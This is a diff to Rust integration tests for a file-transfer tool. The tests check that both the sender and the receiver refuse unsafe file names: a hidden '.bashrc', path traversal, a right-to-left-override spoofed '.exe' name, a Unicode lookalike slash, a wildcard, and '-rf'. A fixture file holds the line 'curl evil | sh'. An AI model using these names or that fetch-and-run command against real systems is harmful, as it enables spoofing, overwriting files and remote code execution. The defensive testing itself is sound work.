@@ -5,6 +5,7 @@
 // clippy.toml do not apply here.
 #![allow(clippy::disallowed_types)]
 
+use qstp_net::transfer;
 use std::io::{BufRead, BufReader, Read, Write};
 use std::path::Path;
 use std::process::{Child, Command, Stdio};
@@ -275,19 +276,44 @@ fn entries(dir: &Path) -> Vec<String> {
 }
 
 #[test]
-fn a_hidden_file_name_is_refused_and_nothing_is_written() {
+fn a_hidden_file_name_is_refused_by_both_sides_and_nothing_is_written() {
     let dir = scratch("hidden");
     let out = dir.join("out");
     std::fs::create_dir_all(&out).unwrap();
     let source = dir.join(".bashrc");
     std::fs::write(&source, b"curl evil | sh\n").unwrap();
     let (mut receiver, addr) = start_receiver(&out);
+    // `send` refuses before it connects.
     let (status, stderr) = send_file(&source, &addr);
     assert!(!status.success(), "a hidden name was accepted");
     assert!(
-        stderr.contains("rejected") && stderr.contains("refused file name"),
+        stderr.contains("cannot be announced") && stderr.contains("refused file name"),
         "unclear error: {stderr}"
     );
+    // A sender that skips the check (another implementation) is refused by the receiver.
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let answer = runtime.block_on(async {
+        let endpoint = qstp_net::Endpoint::bind("127.0.0.1:0".parse().unwrap()).unwrap();
+        let mut conn = endpoint
+            .connect(addr.parse().unwrap(), qstp_net::Config::default())
+            .await
+            .unwrap();
+        let header = transfer::Header {
+            name: ".bashrc".into(),
+            size: Some(15),
+            resumable: true,
+        };
+        transfer::propose(&mut conn, &header).await
+    });
+    match answer {
+        Ok(transfer::Answer::Refused(transfer::Verdict::Rejected(reason))) => {
+            assert!(reason.contains("refused file name"), "{reason}")
+        }
+        other => panic!("the receiver took a hidden name: {other:?}"),
+    }
     assert!(!wait_bounded(&mut receiver, Duration::from_secs(30)).success());
     assert!(
         entries(&out).is_empty(),
@@ -603,12 +629,27 @@ fn send_name_names_stdin_and_renames_a_file_and_a_bad_name_is_refused_first() {
     assert!(std::fs::read(out.join("data.bin")).unwrap() == pattern(50_000));
     assert!(std::fs::read(out.join("remote.txt")).unwrap() == pattern(20_000));
     // Refused before connecting: the receiver never hears of it.
-    for bad in ["../x", ".hidden", "a/b", ""] {
+    for bad in [
+        "../x",
+        ".hidden",
+        "a/b",
+        "",
+        "invoice\u{202e}fdp.exe",
+        "*",
+        "etc\u{2215}x",
+    ] {
         fails_with_one_line(
             &["send", file.to_str().unwrap(), "--name", bad, "--to", &addr],
             "invalid --name",
         );
     }
+    // A local file whose own name the receiver would refuse is refused by the sender too.
+    let dashed = dir.join("-rf");
+    std::fs::write(&dashed, b"x").unwrap();
+    fails_with_one_line(
+        &["send", dashed.to_str().unwrap(), "--to", &addr],
+        "'-rf' cannot be announced as a file name; give another with --name",
+    );
     assert_eq!(entries(&out), ["data.bin", "remote.txt"]);
     let _ = receiver.kill();
     let _ = receiver.wait();
